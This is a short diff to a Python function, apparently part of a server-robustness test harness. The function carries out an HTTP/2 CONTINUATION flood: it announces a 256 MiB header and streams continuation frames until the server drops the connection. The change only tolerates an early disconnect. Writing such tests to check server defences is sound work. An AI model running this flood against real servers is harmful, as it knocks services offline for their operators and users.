@@ -125,7 +125,8 @@ def continuation_flood(address, most, stop=None):
     """One header whose value is announced as 256 MiB and goes on and on; bytes that were sent."""
     attacker = Attacker(address)
     begun = headers(address) + b"\0" + integer(7, 1) + b"a" + integer(7, 1 << 28)
-    attacker.socket.sendall(frame(HEADERS, 0, 1, begun))
+    with contextlib.suppress(*THROWN_OUT):
+        attacker.socket.sendall(frame(HEADERS, 0, 1, begun))
     sent = attacker.send_until_thrown_out(frame(CONTINUATION, 0, 1, b"x" * 16384) * 4, most, stop)
     attacker.close()
     return sent
